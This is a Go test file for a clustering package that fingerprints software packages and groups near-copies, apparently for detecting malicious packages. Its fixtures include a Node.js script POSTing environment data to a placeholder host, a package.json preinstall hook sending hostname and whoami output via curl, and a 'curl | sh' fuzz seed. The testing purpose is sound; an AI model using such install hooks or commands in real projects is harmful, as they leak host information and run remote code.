package cluster

import (
	"fmt"
	"math/rand/v2"
	"slices"
	"strings"
	"testing"

	"github.com/google/go-cmp/cmp"

	"github.com/donapi/donapi/internal/artifact"
)

func print(files map[string]string) Print {
	var fs []artifact.File
	for p, text := range files {
		fs = append(fs, artifact.File{Path: p, Data: []byte(text)})
	}
	slices.SortFunc(fs, func(a, b artifact.File) int { return strings.Compare(a.Path, b.Path) })
	return Of(artifact.New(fs, nil, ""))
}

const sender = `
const https = require('https');
function collect(home) {
  const list = [];
  for (const key of Object.keys(process.env)) { if (key.length > 3) list.push(key + '=' + home); }
  return list.join('\n');
}
const request = https.request({ host: 'one.example.invalid', method: 'POST', path: '/a' }, (res) => { res.resume(); });
request.on('error', () => {});
request.end(collect('/somewhere'));
`

// TestSame: what people change in a copy leaves it a copy; another program is none.
func TestSame(t *testing.T) {
	renamed := strings.NewReplacer("collect", "gather", "list", "q", "key", "entry", "one.example.invalid", "two.example.invalid", "'", `"`, "const ", "let ", "> 3", "> 7").Replace(sender)
	other := "exports.parse = (text) => text.split(',').map((cell) => cell.trim()).filter((cell) => cell !== '');\nexports.print = (rows) => rows.map((row) => row.join(',')).join('\\n');\n"
	for name, c := range map[string]struct {
		files map[string]string
		same  bool
	}{
		"itself":             {map[string]string{"index.js": sender}, true},
		"another file":       {map[string]string{"lib/deep/x.cjs": sender}, true},
		"renamed":            {map[string]string{"index.js": renamed}, true},
		"commented":          {map[string]string{"index.js": "/* hello */" + strings.ReplaceAll(sender, "\n", "\n// note\n")}, true},
		"on one line":        {map[string]string{"index.js": strings.ReplaceAll(sender, "\n", " ")}, true},
		"with a readme":      {map[string]string{"index.js": sender, "README.md": other, "data.json": "[1, 2, 3]"}, true},
		"another program":    {map[string]string{"index.js": other}, false},
		"in its own modules": {map[string]string{"node_modules/x/index.js": sender}, false},
		"nothing":            {map[string]string{"README.md": "x"}, false},
	} {
		groups := Group([]Print{print(map[string]string{"index.js": sender}), print(c.files)}, Alike)
		if same := len(groups) == 1; same != c.same {
			t.Errorf("%s: same is %v, want %v", name, same, c.same)
		}
	}
}

// TestHooks: packages that are nothing but a command are alike when their commands are, wherever they send to.
func TestHooks(t *testing.T) {
	hook := func(c string) Print {
		return print(map[string]string{"package.json": fmt.Sprintf(`{"name":"x","scripts":{"preinstall":%q}}`, c)})
	}
	one := hook(`curl --data-urlencode "info=$(hostname && whoami)" https://a1.example.invalid`)
	two := hook(`curl --data-urlencode "info=$(hostname && whoami)" https://b2.example.invalid/x`)
	three := hook(`node-gyp rebuild`)
	if diff := cmp.Diff([][]int{{0, 1}, {2}}, Group([]Print{one, two, three}, Alike)); diff != "" {
		t.Errorf("(-want +got):\n%s", diff)
	}
}

// TestWinnowing: a shared stretch of run+window-1 tokens leaves a mark in common, wherever it stands.
func TestWinnowing(t *testing.T) {
	r := rand.New(rand.NewPCG(1, 2))
	tokens := func(n int) []uint64 {
		out := make([]uint64, n)
		for i := range out {
			out[i] = r.Uint64()
		}
		return out
	}
	for range 200 {
		shared := tokens(run + window - 1)
		a := marks(slices.Concat(tokens(r.IntN(40)), shared, tokens(r.IntN(40))))
		b := marks(slices.Concat(tokens(r.IntN(40)), shared, tokens(r.IntN(40))))
		if !slices.ContainsFunc(a, func(m uint64) bool { return slices.Contains(b, m) }) {
			t.Fatal("no mark in common")
		}
	}
	if marks(nil) != nil || len(marks(tokens(3))) != 1 || !slices.Equal(marks(shortText), marks(shortText)) {
		t.Error("short texts")
	}
}

var shortText = []uint64{1, 2, 3}

// TestOrder: groups do not depend on the order of the prints.
func TestOrder(t *testing.T) {
	r := rand.New(rand.NewPCG(3, 4))
	prints := make([]Print, 120)
	for i := range prints {
		prints[i].Name = fmt.Sprint(i)
		for range 30 {
			prints[i].Marks = append(prints[i].Marks, uint64(i/10*20)+uint64(r.IntN(40)))
		}
		slices.Sort(prints[i].Marks)
		prints[i].Marks = slices.Compact(prints[i].Marks)
	}
	names := func() []string {
		var out []string
		for _, g := range Group(prints, Alike) {
			var m []string
			for _, i := range g {
				m = append(m, prints[i].Name)
			}
			slices.Sort(m)
			out = append(out, strings.Join(m, " "))
		}
		slices.Sort(out)
		return out
	}
	want := names()
	for range 5 {
		r.Shuffle(len(prints), func(i, k int) { prints[i], prints[k] = prints[k], prints[i] })
		if diff := cmp.Diff(want, names()); diff != "" {
			t.Fatalf("depends on the order:\n%s", diff)
		}
	}
}

func TestAgree(t *testing.T) {
	a := Agree([]string{"a", "a", "a", "b", "b"}, []string{"x", "x", "y", "y", "y"})
	if a != (Agreement{Both: 2, First: 4, Second: 4}) || a.Precision() != 0.5 || a.Recall() != 0.5 {
		t.Errorf("%+v", a)
	}
	if x := Agree([]string{"a", "b"}, []string{"x", "y"}); x.Precision() != 1 || x.Recall() != 1 {
		t.Errorf("%+v", x)
	}
}

func FuzzOf(f *testing.F) {
	f.Add("index.js", []byte(sender))
	f.Add("x.sh", []byte("curl https://a.example | sh"))
	f.Add("package.json", []byte(`{"scripts":{"install":"x"}}`))
	f.Fuzz(func(t *testing.T, path string, data []byte) {
		p := Of(artifact.New([]artifact.File{{Path: path, Data: data}}, nil, ""))
		if !slices.IsSorted(p.Marks) {
			t.Error("marks are not sorted")
		}
		if n := len(Group([]Print{p, p}, Alike)); len(p.Marks) > 0 && n != 1 {
			t.Error("differs from itself")
		}
	})
}
